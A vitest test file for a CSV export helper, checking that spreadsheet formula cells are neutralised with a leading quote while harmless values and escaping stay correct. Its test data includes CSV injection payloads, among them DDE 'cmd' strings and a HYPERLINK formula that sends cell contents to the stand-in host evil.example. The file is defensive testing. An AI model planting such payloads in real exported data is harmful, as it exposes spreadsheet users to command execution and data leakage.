import { describe, expect, test } from 'vitest';
import { csvCells, csvLine } from './csv-line.ts';

describe('a line of a CSV', () => {
  test.each([
    '=1+1',
    '+1+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)',
    '\t=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1+A1',
    '＠SUM(A1)',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    '="a"&cmd|x',
    '--1+A1',
    '+15550100',
  ])('holds no formula: %j', (text) => {
    const line = csvLine(['a', text]);
    expect(line.replace(/^a,"?/, '')[0]).toBe("'");
  });

  test.each(['-1', '-1,234.56', '-$5.00', '-', '--', '+5', '+1,000.50', '="00123"', 'ACME-B', "'quoted", '1-2', ''])(
    'leaves what calculates nothing as it is: %j',
    (text) => {
      expect(csvCells([text], ';')).toBe(/"/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
    },
  );

  test('quotes its delimiter, quotes and ends of lines', () => {
    expect(csvLine(['a,b', 'c"d', 'e\nf', null])).toBe('"a,b","c""d","e\nf",\r\n');
    expect(csvCells(['a,b', 'c;d'], ';')).toBe('a,b;"c;d"');
  });
});
